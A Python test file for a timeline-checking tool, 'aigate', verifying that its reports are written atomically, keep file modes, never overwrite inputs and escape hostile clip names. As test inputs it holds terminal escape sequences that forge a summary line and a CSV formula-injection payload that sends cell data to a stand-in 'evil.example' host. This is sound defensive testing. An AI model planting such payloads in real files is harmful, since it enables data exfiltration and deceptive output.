"""What the gate writes is safe to write and to open (issue 12): never over an input, whole
or not at all, with the user's umask or the mode of the file it replaces, and with hostile
names escaped in every format."""

from __future__ import annotations

import csv
import io
import os
import stat
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from aigate.core.gate import GateLocked
from aigate.run.session import Session
from helpers import ai, clip, run_process, timeline, write

#: names a hostile timeline can carry: terminal escapes (clear screen, recolour, move the
#: cursor), a forged summary line, characters XML forbids, markup, spreadsheet formulas
#: (OTIO keeps a name up to its first NUL)
HOSTILE = "\x1b[2J\x1b[32mCLEAN\rsummary: 1 file(s) (1 checked, 0 failed)\n\x07<b>&]]>\x00"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'

#: a report format that misbehaves while the report is written to --output
FAULTY = '''
import os
import signal

from aigate.api import hookimpl
from aigate.output.report import ReportFormat


def _tail_raises(report, options):
    raise RuntimeError("the format broke half-way")


def _tail_terminated(report, options):
    os.kill(os.getpid(), signal.SIGTERM)  # as a scheduler stopping the job would
    return "not reached"


@hookimpl
def aigate_report_formats():
    subject = lambda result, options: "a timeline\\n"
    head = lambda report, options: "partial output\\n"
    return [ReportFormat("raises", "", head, subject, _tail_raises),
            ReportFormat("terminated", "", head, subject, _tail_terminated)]
'''


@pytest.fixture
def hostile_cut(tmp_path) -> Path:
    cut = timeline([clip("SH010", 2), clip(HOSTILE, 2, ai(purpose="temp")),
                    clip(FORMULA, 2, ai(tool={"name": "@SUM(A1)", "vendor": "-2+3"}))],
                   name=f"cut {HOSTILE}")
    return write(tmp_path / "cut.otio", cut)


def listing(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


# --output: never an input, never a folder, refused before anything is checked


@pytest.mark.parametrize("how", ["same path", "symlink to the input", "glob matching it"])
def test_output_naming_an_input_is_refused_before_checking(tmp_path, hostile_cut, how):
    before = hostile_cut.read_bytes()
    args: list[str | Path]
    if how == "same path":
        args, output = [hostile_cut], hostile_cut
    elif how == "symlink to the input":
        output = tmp_path / "link.otio"
        output.symlink_to(hostile_cut)
        args = [hostile_cut]
    else:
        args, output = [str(tmp_path / "*.otio")], hostile_cut
    run = run_process("check", *args, "--format", "json", "--output", output)
    assert run.code == 2
    assert "is one of the inputs" in run.err and run.out == ""
    assert hostile_cut.read_bytes() == before
    assert not (tmp_path / "report.otio").exists()


def test_output_that_is_a_folder_is_refused(tmp_path, hostile_cut):
    (tmp_path / "reports").mkdir()
    for command in ("check", "register"):
        run = run_process(command, hostile_cut, "--output", tmp_path / "reports")
        assert run.code == 2
        assert "is a folder; give a file name" in run.err
    assert listing(tmp_path / "reports") == []


def test_register_refuses_to_overwrite_its_input(hostile_cut):
    before = hostile_cut.read_bytes()
    run = run_process("register", hostile_cut, "--output", hostile_cut)
    assert run.code == 2 and "is one of the inputs" in run.err
    assert hostile_cut.read_bytes() == before


def test_annotate_still_refuses_out_equal_in(hostile_cut):
    run = run_process("annotate", hostile_cut, hostile_cut)
    assert run.code == 2 and "OUT must be another file" in run.err


# modes: the user's umask, or the mode of the file replaced


def umasked(mask: int, *args: str | Path) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k != "AIGATE_STAGE"}
    return subprocess.run([sys.executable, "-m", "aigate", *map(str, args)], env=env,
                          capture_output=True, text=True, timeout=300,
                          preexec_fn=lambda: os.umask(mask))


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.parametrize("mask, expected", [(0o022, 0o644), (0o077, 0o600), (0o002, 0o664)])
def test_outputs_get_the_users_umask(tmp_path, hostile_cut, mask, expected):
    outputs = {"report.json": ("check", hostile_cut, "--format", "json", "--output"),
               "report.html": ("check", hostile_cut, "--format", "html", "--output"),
               "register.csv": ("register", hostile_cut, "--output"),
               "annotated.otio": ("annotate", hostile_cut)}
    for name, args in outputs.items():
        proc = umasked(mask, *args, tmp_path / name)
        assert proc.returncode in (0, 1), proc.stderr
        assert mode(tmp_path / name) == expected, name
    assert not [n for n in listing(tmp_path) if n.startswith(".")]


def test_a_replaced_output_keeps_its_mode(tmp_path, hostile_cut):
    for name, args in {"report.json": ("check", hostile_cut, "--format", "json", "--output"),
                       "annotated.edl": ("annotate", hostile_cut)}.items():
        target = tmp_path / name
        target.write_text("old")
        target.chmod(0o640)
        proc = umasked(0o022, *args, target)
        assert proc.returncode in (0, 1), proc.stderr
        assert target.read_text() != "old" and mode(target) == 0o640


def test_signing_an_approval_record_keeps_its_mode(tmp_path, cli):
    assert cli("approvals", "keygen", "dana", "--out", tmp_path / "keys").code == 0
    record = tmp_path / "APR-1.yaml"
    record.write_text("id: APR-1\ngrants: [final-deliverable-use]\nscope: {clips: [SH1]}\n"
                      "approver: {name: Dana Ruiz, role: Production Legal}\n"
                      "issued: 2026-01-01\nexpires: 2026-12-31\n")
    record.chmod(0o640)
    run = cli("approvals", "sign", record, "--key", tmp_path / "keys" / "dana.key")
    assert run.code == 0, run.err
    assert "signature:" in record.read_text() and mode(record) == 0o640
    assert listing(tmp_path) == ["APR-1.yaml", "keys"]


# never a temporary file left, never a half-written output


@pytest.fixture
def faulty_env(tmp_path) -> dict[str, str]:
    plugins = tmp_path / "plugins"
    plugins.mkdir()
    (plugins / "aigate_faulty.py").write_text(FAULTY)
    return {"PYTHONPATH": os.pathsep.join((str(plugins), os.environ.get("PYTHONPATH", ""))),
            "AIGATE_PLUGINS": "aigate_faulty"}


@pytest.mark.parametrize("fmt, code, message", [
    ("raises", 2, "RuntimeError: the format broke half-way"),
    ("terminated", 128 + 15, "terminated by signal 15")])
def test_an_output_interrupted_half_way_leaves_the_old_file_and_no_temp(
        tmp_path, hostile_cut, faulty_env, fmt, code, message):
    out = tmp_path / "out"
    out.mkdir()
    (out / "report.txt").write_text("yesterday's report\n")
    run = run_process("check", hostile_cut, "--format", fmt, "--output",
                      out / "report.txt", env=faulty_env)
    assert run.code == code, run.err
    assert message in run.err and "Traceback" not in run.err
    assert listing(out) == ["report.txt"]
    assert (out / "report.txt").read_text() == "yesterday's report\n"


def test_a_new_output_interrupted_half_way_is_not_created(tmp_path, hostile_cut, faulty_env):
    run = run_process("check", hostile_cut, "--format", "terminated", "--output",
                      tmp_path / "out" / "report.txt", env=faulty_env)
    assert run.code == 143
    assert listing(tmp_path / "out") == []


# hostile names, escaped in every format


def test_text_report_shows_control_characters_as_escapes(hostile_cut):
    run = run_process("check", hostile_cut)
    assert "\x1b" not in run.out and "\r" not in run.out and "\x07" not in run.out
    assert "\\x1b[2J\\x1b[32mCLEAN\\x0dsummary: 1 file(s)" in run.out
    # one summary line, the last: a clip name cannot forge another
    assert [line for line in run.out.splitlines() if line.startswith("summary:")] == [
        run.out.splitlines()[-1]]


def test_junit_is_well_formed_with_hostile_names(hostile_cut):
    run = run_process("check", hostile_cut, "--format", "junit", "--fail-on", "warn")
    root = ET.fromstring(run.out)  # raises on any character XML 1.0 forbids
    suite = root.find("testsuite")
    assert suite is not None and suite.get("name", "").startswith(f"{hostile_cut}: cut \\x1b[2J")
    names = [case.get("name", "") for case in root.iter("testcase")]
    # what XML forbids is escaped; what it allows (CR, LF, markup) round-trips
    assert any(name.startswith("\\x1b[2J\\x1b[32mCLEAN\rsummary") and "\\x07<b>&]]>" in name
               for name in names), names


def test_junit_lists_unreadable_files_with_hostile_names_well_formed(tmp_path):
    bad = tmp_path / "bad\x1b\x01\udcff.otio"
    bad.write_text("{")
    run = run_process("check", bad, "--format", "junit")
    root = ET.fromstring(run.out)
    [case] = root.iter("testcase")
    assert case.get("name", "").endswith("bad\\x1b\\x01\\xff.otio")


def test_html_escapes_markup_in_names(tmp_path, hostile_cut):
    run = run_process("check", hostile_cut, "--format", "html", "--output",
                      tmp_path / "r.html")
    page = (tmp_path / "r.html").read_text()
    assert run.code == 0, run.err
    assert "&lt;b&gt;&amp;]]&gt;" in page and "<b>&]]>" not in page


def test_register_csv_neutralises_formula_cells(tmp_path, hostile_cut):
    run = run_process("register", hostile_cut, "--output", tmp_path / "register.csv")
    assert run.code == 0, run.err
    rows = list(csv.DictReader(io.StringIO((tmp_path / "register.csv").read_text())))
    by_clip = {row["clip"]: row for row in rows}
    row = by_clip[f"'{FORMULA}"]
    assert row["tool"] == "'@SUM(A1)" and row["tool_vendor"] == "'-2+3"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_gate_locked_message_escapes_names(tmp_path):
    cut = timeline([clip(HOSTILE, 2, ai(purpose="temp"))], name="ep\x1b]0;owned\x07")
    gate = Session().gate()
    with pytest.raises(GateLocked) as raised:
        gate.guard_export(cut, stage="final")
    message = str(raised.value)
    assert "\x1b" not in message and "\r" not in message and "\x07" not in message
    lines = message.splitlines()
    assert lines[0].endswith('1 locked clip(s) in "ep\\x1b]0;owned\\x07"; fix or get them '
                             "approved, then export again (details below)")
    assert lines[1] == "locked:" and lines[3] == "what to do:"
    assert lines[2].startswith('  ep\\x1b]0;owned\\x07: V1 "\\x1b[2J\\x1b[32mCLEAN\\x0d')
    # every other line is one the gate wrote: a name cannot add one
    assert all(x.startswith("  ") for x in lines[4:-1])
    assert lines[-1] == "each clip's reasons: aigate check FILE --stage final"
